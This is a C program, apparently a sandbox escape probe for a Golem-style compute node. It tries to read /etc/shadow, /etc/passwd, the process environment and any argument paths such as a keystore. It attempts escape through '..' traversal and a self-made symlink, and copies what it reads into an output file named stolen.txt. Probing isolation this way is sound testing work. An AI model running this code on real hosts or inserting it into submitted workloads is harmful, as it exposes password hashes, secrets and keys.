/*
 * readhost: tries to read host files from inside the sandbox: /etc/shadow, /etc/passwd, escapes out
 * of the preopened folders with "..", and every path given as an argument (e.g. the node's keystore).
 * For each path it prints "DENIED <path> (<error>)" or "READ <path>: <first bytes>", and it copies
 * whatever it could read into /golem/output/stolen.txt. Exit status: the number of paths it could read.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int try_read(const char *path, FILE *loot) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) {
    printf("DENIED %s (%s)\n", path, strerror(errno));
    return 0;
  }
  char buf[64];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n < 0) {
    printf("DENIED %s (read: %s)\n", path, strerror(errno));
    return 0;
  }
  buf[n] = 0;
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] == '\n') buf[i] = ' ';
  printf("READ %s: %s\n", path, buf);
  if (loot) fprintf(loot, "%s: %s\n", path, buf);
  return 1;
}

int main(int argc, char **argv) {
  static const char *fixed[] = {
      "/etc/shadow",
      "/etc/passwd",
      "/proc/self/environ",
      "/golem/resources/../../etc/passwd",
      "/golem/resources/../../../../../../etc/passwd",
      "/golem/output/../../etc/passwd",
      "/golem/work/../../etc/passwd",
      "../../../../etc/passwd",
      "/golem/resources/escape/passwd",
  };
  FILE *loot = fopen("/golem/output/stolen.txt", "w");
  int stolen = 0;
  for (size_t i = 0; i < sizeof fixed / sizeof fixed[0]; i++) stolen += try_read(fixed[i], loot);
  for (int i = 1; i < argc; i++) stolen += try_read(argv[i], loot);
  /* a symlink the program makes itself, pointing out of its folder */
  if (symlink("../../../../etc/passwd", "/golem/output/link") == 0) {
    printf("made symlink /golem/output/link\n");
    stolen += try_read("/golem/output/link", loot);
  } else {
    printf("DENIED symlink /golem/output/link (%s)\n", strerror(errno));
  }
  if (loot) fclose(loot);
  unlink("/golem/output/link");
  printf("paths read: %d\n", stolen);
  return stolen;
}
